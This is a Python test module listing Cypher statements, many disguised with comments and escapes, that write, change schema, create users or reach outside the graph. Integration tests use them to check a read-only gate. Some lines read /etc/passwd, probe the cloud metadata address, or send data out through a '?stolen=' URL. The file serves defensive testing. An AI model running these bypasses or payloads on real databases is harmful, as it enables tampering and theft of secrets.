"""Statements that do more than read this graph, made by category, and by what each really does when nothing stops it.

``attacks(version)`` gives those that the server version knows. How a category is proven (see
``tests/integration/graph/test_readonly_attacks.py``):

* ``write``, ``schema``, ``users``: run in a transaction that is rolled back; the server counts what it changed, or the
  statement's query type says that it writes.
* ``batches``: runs outside of a transaction only, so it really writes nodes of its own, which are removed.
* ``outside``: LOAD CSV in READ access mode. The test server forbids every address and file by its settings, so the
  proof is its error: the statement had passed planning and access mode and was about to fetch.
* ``server``: looks at the server or steers it, in READ access mode; it runs and answers.

Functions and procedures of plug-ins (``apoc.load.json``, ``genai.vector.encode``) cannot be proven here, since the
embedded server has no plug-ins: the unit tests of the gate cover them.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, field

SEED = "CREATE (a:Frame {id: 'attack/0', t: 0.0})-[:NEXT {gap: 1.0}]->(:Frame {id: 'attack/1', t: 1.0})"
_ONE = "MATCH (n:Frame {id: 'attack/0'})"


@dataclass(frozen=True)
class Attack:
    category: str
    text: str
    since: tuple[int, ...] = ()
    before: tuple[int, ...] = (9999,)
    parameters: dict[str, object] = field(default_factory=dict)


def attacks(version: tuple[int, ...]) -> list[Attack]:
    """All attacks that work on a server version, each text once."""
    made = [*_writes(), *_disguised(), *_profiled(), *_write_procedures(), *_schema(), *_users(), *_batches()]
    made += [*_outside(), *_commands(), *_procedures()]
    known = [one for one in made if one.since <= version[:2] < one.before]
    return list({one.text: one for one in known}.values())


def _writes() -> Iterator[Attack]:
    for text in (
        "CREATE (:Attack)",
        "CREATE (:Attack)-[:REL]->(:Attack) RETURN 1 AS one",
        "MERGE (:Attack {id: 1})",
        f"{_ONE} MERGE (n)-[:REL]->(:Attack)",
        "MERGE (n:Attack {id: 2}) ON CREATE SET n.fresh = true",
        f"{_ONE} SET n.t = 9.0",
        f"{_ONE} SET n += {{t: 9.0}} RETURN n.id",
        f"{_ONE} SET n = {{}}",
        f"{_ONE} SET n:Attack",
        f"{_ONE} SET n['t'] = 3.0",
        f"{_ONE} REMOVE n.t",
        f"{_ONE} REMOVE n:Frame",
        f"{_ONE} DETACH DELETE n",
        "MATCH (:Frame {id: 'attack/0'})-[r:NEXT]->() DELETE r",
        "MATCH (:Frame {id: 'attack/0'})-[r:NEXT]->() SET r.gap = 2.0",
        "MATCH (:Frame {id: 'attack/0'})-[r:NEXT]->() REMOVE r.gap",
        "MATCH (:Frame {id: 'attack/0'})-[r:NEXT]->(m) DELETE r NODETACH DELETE m",
        "INSERT (:Attack)",
        "FOREACH (i IN [1] | CREATE (:Attack))",
        f"{_ONE} FOREACH (m IN [n] | SET m.t = 1.5)",
        "FOREACH (i IN [1] | FOREACH (j IN [i] | MERGE (:Attack {id: j})))",
        "UNWIND [1, 2] AS i CREATE (:Attack {id: i})",
        "RETURN 1 AS x UNION CREATE (a:Attack) RETURN 1 AS x",
        "RETURN 1 AS x UNION ALL MERGE (a:Attack {id: 3}) RETURN 2 AS x",
        "CALL () { CREATE (:Attack) } RETURN 1 AS one",
        "CALL () { CREATE (a:Attack) RETURN a } RETURN a",
        "CALL () { CALL () { CREATE (a:Attack) RETURN a } RETURN a } RETURN count(*) AS n",
        f"{_ONE} CALL (n) {{ SET n.t = 4.0 }} RETURN n.id",
        f"{_ONE} WITH n, n.t AS t ORDER BY t LIMIT 1 SET n.t = t + 1 RETURN t",
        "WITH 1 AS x CREATE (:Attack) WITH x MATCH (v:Video) RETURN v.id LIMIT 1",
        "CREATE (a:Attack) WITH a MATCH (b:Attack) DELETE a",
        f"{_ONE} SET n.t = CASE WHEN n.t IS NULL THEN 0.0 ELSE 8.0 END",
        "MATCH p = (:Frame {id: 'attack/0'})-[:NEXT]->() FOREACH (m IN nodes(p) | SET m.t = 7.0)",
        "OPTIONAL MATCH (n:Frame {id: 'attack/0'}) DETACH DELETE n",
        "OPTIONAL CALL () { CREATE (a:Attack) RETURN a } RETURN a",
    ):
        yield Attack("write", text)
    yield Attack("write", "UNWIND $rows AS row CREATE (n:Attack) SET n += row", parameters={"rows": [{"id": 1}]})
    for text in ("CREATE (:$('Attack'))", f"{_ONE} SET n:$('Attack')", f"{_ONE} REMOVE n:$('Frame')"):
        yield Attack("write", text)
    for text in (
        "CYPHER 25 LET x = 1 CREATE (:Attack {id: x})",
        "CYPHER 25 WHEN true THEN CREATE (:Attack) ELSE CREATE (:Attack {id: 1})",
        "CYPHER 25 RETURN 1 AS x NEXT CREATE (:Attack {id: x})",
        "CYPHER 25 UNWIND [1, 2] AS x FILTER x > 1 CREATE (:Attack {id: x})",
        "CYPHER 25 FOR x IN [1] CREATE (:Attack {id: x})",
    ):
        yield Attack("write", text, since=(2026, 6))


def _disguised() -> Iterator[Attack]:
    """Writes behind comments, escapes, odd blanks, odd case and options of the planner."""
    bases = ("CREATE (:Attack)", "MERGE (:Attack {id: 1})", f"{_ONE} SET n.t = 9.0", f"{_ONE} DETACH DELETE n")
    for base in bases:
        yield from (
            Attack("write", text)
            for text in (
                f"// RETURN 1\n{base}",
                f"/* MATCH (n) RETURN n */ {base} /* nothing more */",
                base.replace(" ", "/**/"),
                base.replace(" (", " /* ( */\n("),
                base.lower().replace("(:attack", "(:Attack").replace("n:frame", "n:Frame"),
                base.replace(" ", "\u00a0"),
                base.replace(" ", "\t\r\n"),
                f"\\u0020{base}",
                f"{base[0]}\\u{ord(base[1]):04x}{base[2:]}",
                f"/* \\u002a\\u002f {base} // */",
                f"WITH '/*' AS quote {base.replace('MATCH', ' MATCH')} // '*/'",
                f'WITH "// \\" no comment" AS quote {base}',
                f"WITH 1 AS `/*` {base} //`*/`",
                f"CYPHER 5 {base}",
                f"CYPHER runtime=slotted {base}",
                f"cypher planner=cost {base}",
                f"{base};",
            )
        )


def _profiled() -> Iterator[Attack]:
    """PROFILE runs what it profiles."""
    for prefix in ("PROFILE", "profile", "/* x */ PROFILE", "CYPHER 5 PROFILE", "CYPHER runtime=slotted PROFILE"):
        yield Attack("write", f"{prefix} CREATE (:Attack)")


def _write_procedures() -> Iterator[Attack]:
    for text in (
        "CALL db.createLabel('Attack')",
        "CALL db.createProperty('attack')",
        "CALL db.createRelationshipType('ATTACK')",
        "CALL `db`.`createLabel`('Attack')",
        "CALL db . /* x */ createLabel('Attack')",
        "CALL \\u0064b.createLabel('Attack')",
        f"{_ONE} CALL db.create.setNodeVectorProperty(n, 'embedding', [1.0, 2.0]) RETURN 1 AS one",
        "MATCH (:Frame {id: 'attack/0'})-[r:NEXT]->() "
        "CALL db.create.setRelationshipVectorProperty(r, 'v', [1.0]) RETURN 1 AS one",
        "UNWIND ['Attack'] AS name CALL db.createLabel(name) RETURN name",
    ):
        yield Attack("write", text)


def _schema() -> Iterator[Attack]:
    for text in (
        "CREATE INDEX attack FOR (n:Frame) ON (n.attack)",
        "CREATE INDEX attack IF NOT EXISTS FOR (n:Frame) ON (n.attack, n.other)",
        "CREATE INDEX FOR ()-[r:NEXT]-() ON (r.attack)",
        "CREATE TEXT INDEX attack FOR (n:Frame) ON (n.attack)",
        "CREATE POINT INDEX attack FOR (n:Frame) ON (n.attack)",
        "CREATE FULLTEXT INDEX attack FOR (n:Frame) ON EACH [n.attack]",
        "CREATE VECTOR INDEX attack FOR (n:Frame) ON (n.attack) OPTIONS {indexConfig: "
        "{`vector.dimensions`: 3, `vector.similarity_function`: 'cosine'}}",
        "CREATE CONSTRAINT attack FOR (n:Frame) REQUIRE n.attack IS UNIQUE",
        "CREATE CONSTRAINT FOR ()-[r:NEXT]-() REQUIRE r.attack IS UNIQUE",
        "create/**/index attack for (n:Attack) on (n.x)",
        "CYPHER 5 CREATE INDEX attack FOR (n:Frame) ON (n.attack)",
        "DROP INDEX frame_video",
        "DROP INDEX frame_node_text IF EXISTS",
        "DROP CONSTRAINT video_id",
        "drop constraint entity_id if exists",
    ):
        yield Attack("schema", text)


def _users() -> Iterator[Attack]:
    for text in (
        "CREATE USER attacker SET PASSWORD 'long enough' CHANGE NOT REQUIRED",
        "CREATE USER attacker IF NOT EXISTS SET PASSWORD 'long enough'",
        "CREATE OR REPLACE USER attacker SET PASSWORD 'long enough'",
        "create/**/user `attacker` set plaintext password 'long enough'",
        "ALTER USER neo4j SET PASSWORD CHANGE NOT REQUIRED",
        "SHOW USERS",
        "SHOW USERS YIELD user WHERE user = 'neo4j'",
        "SHOW CURRENT USER",
        "SHOW DATABASES",
        "SHOW DATABASE neo4j",
        "SHOW DEFAULT DATABASE",
        "SHOW HOME DATABASE YIELD name",
    ):
        yield Attack("users", text)


def _batches() -> Iterator[Attack]:
    for ending in (
        "IN TRANSACTIONS",
        "IN TRANSACTIONS OF 1 ROW",
        "IN TRANSACTIONS OF 10 ROWS ON ERROR CONTINUE",
        "IN TRANSACTIONS ON ERROR BREAK REPORT STATUS AS s",
        "IN 2 CONCURRENT TRANSACTIONS OF 1 ROW",
    ):
        yield Attack("batches", f"UNWIND [1, 2] AS i CALL (i) {{ CREATE (:Attack {{id: i}}) }} {ending} RETURN i")
    yield Attack("batches", "UNWIND [1] AS i CALL (i) { MERGE (:Attack {id: i}) } IN /**/ TRANSACTIONS")
    yield Attack("batches", "unwind [1] as i call (i) { create (:Attack) } in\ntransactions of 1 rows")


def _outside() -> Iterator[Attack]:
    web, file = "'http://127.0.0.1:1/x.csv'", "'file:///etc/passwd'"
    for text in (
        f"LOAD CSV FROM {web} AS line RETURN line",
        f"LOAD CSV FROM {file} AS line RETURN line",
        f"LOAD CSV WITH HEADERS FROM {web} AS line RETURN line",
        "LOAD CSV FROM 'https://127.0.0.1:1/x.csv' AS line RETURN line",
        "LOAD CSV FROM 'ftp://127.0.0.1:1/x.csv' AS line RETURN line",
        "LOAD CSV FROM 'http://169.254.169.254/latest/meta-data/' AS line RETURN line",
        "LOAD CSV FROM 'http://[::1]:1/x.csv' AS line RETURN line",
        f"LOAD CSV FROM {web} AS line FIELDTERMINATOR ';' RETURN line",
        f"load/**/csv\nfrom {web} as line return line",
        f"L\\u004fAD CSV FROM {web} AS line RETURN line",
        f"CALL () {{ LOAD CSV FROM {web} AS line RETURN line }} RETURN line",
        f"UNWIND [1] AS i CALL (i) {{ LOAD CSV FROM {file} AS line RETURN line }} RETURN line",
        f"RETURN ['x'] AS line UNION LOAD CSV FROM {web} AS line RETURN line",
        f"UNWIND range(1, 3) AS i LOAD CSV FROM {web} + i AS line RETURN line",
        f"LOAD CSV FROM {web} AS line RETURN count(*) AS n",
        f"LOAD CSV FROM {file} AS line RETURN file() AS file, linenumber() AS number",
        f"CYPHER 5 LOAD CSV FROM {web} AS line RETURN line",
        f"/* \\u002a\\u002f LOAD CSV FROM {web} AS line RETURN line // */",
        "WITH 'http://127.0.0.1:1/?stolen=' + toString(1 + 1) AS url LOAD CSV FROM url AS line RETURN line",
    ):
        yield Attack("outside", text)
    yield Attack("outside", "LOAD CSV FROM $url AS line RETURN line", parameters={"url": "http://127.0.0.1:1/x.csv"})


def _commands() -> Iterator[Attack]:
    for text in (
        "SHOW SETTINGS",
        "SHOW SETTING 'server.bolt.enabled'",
        "SHOW SETTINGS YIELD name, value WHERE name STARTS WITH 'server.directories' RETURN name, value",
        "show/**/settings yield *",
        "SHOW TRANSACTIONS",
        "SHOW TRANSACTIONS YIELD currentQuery, username",
        "SHOW TRANSACTION 'neo4j-transaction-999999'",
        "TERMINATE TRANSACTIONS 'neo4j-transaction-999999'",
        "TERMINATE TRANSACTION ['neo4j-transaction-999998', 'neo4j-transaction-999999']",
        "TERMINATE TRANSACTIONS 'neo4j-transaction-999999' YIELD message RETURN message",
        "SHOW TRANSACTIONS YIELD transactionId AS id WHERE id = 'none' TERMINATE TRANSACTIONS id YIELD message "
        "RETURN message",
        "/* x */ terminate transactions 'neo4j-transaction-999999'",
        "SHOW PROCEDURES",
        "SHOW PROCEDURES EXECUTABLE YIELD name",
        "SHOW FUNCTIONS",
        "SHOW BUILT IN FUNCTIONS YIELD name WHERE name STARTS WITH 'graph'",
    ):
        yield Attack("server", text)
    yield Attack("server", "SHOW TRANSACTIONS $ids", parameters={"ids": ["neo4j-transaction-999999"]})


def _procedures() -> Iterator[Attack]:
    for text in (
        "CALL dbms.listConfig('server.directories')",
        "CALL dbms.listConfig() YIELD name, value RETURN name, value",
        "CALL dbms.listConfig",
        "CALL `dbms`.`listConfig`()",
        "CALL dbms . listConfig ()",
        "CALL dbms./* x */listConfig()",
        "CALL \\u0064bms.listConfig()",
        "CALL () { CALL dbms.listConfig() YIELD name RETURN name } RETURN name",
        "OPTIONAL CALL dbms.listConfig() YIELD name RETURN name",
        "UNWIND ['server'] AS part CALL dbms.listConfig(part) YIELD name RETURN name",
        "RETURN 'x' AS name UNION CALL dbms.listConfig() YIELD name RETURN name",
        "CALL dbms.listConnections()",
        "CALL dbms.queryJmx('java.lang:type=Runtime')",
        "CALL dbms.queryJmx('*:*') YIELD name RETURN count(*) AS n",
        "CALL dbms.killConnection('bolt-999999')",
        "CALL dbms.killConnections(['bolt-999999'])",
        "CALL dbms.info()",
        "CALL dbms.components()",
        "CALL dbms.listCapabilities()",
        "CALL dbms.showCurrentUser()",
        "CALL dbms.routing.getRoutingTable({})",
        "CALL db.clearQueryCaches()",
        "CALL db.prepareForReplanning(1)",
        "CALL db.resampleOutdatedIndexes()",
        "CALL db.resampleIndex('frame_video')",
        "CALL db.awaitIndexes(1)",
        "CALL db.awaitIndex('frame_video', 1)",
        "CALL db.index.fulltext.awaitEventuallyConsistentIndexRefresh()",
        "CALL db.stats.collect('QUERIES', {durationSeconds: 1})",
        "CALL db.stats.stop('QUERIES')",
        "CALL db.stats.clear('QUERIES')",
        "CALL db.stats.status()",
        "CALL db.stats.retrieve('GRAPH COUNTS')",
        "CALL db.stats.retrieveAllAnonymized('token')",
        "CALL db.info()",
        "CALL db.ping()",
        "CALL tx.setMetaData({template: 'explore/overview'})",
        "CALL tx.getMetaData()",
    ):
        yield Attack("server", text)
    for text in ("CALL fleetManagement.status()", "CALL fleetManagement.reportedData()"):
        yield Attack("server", text, since=(2026, 1))
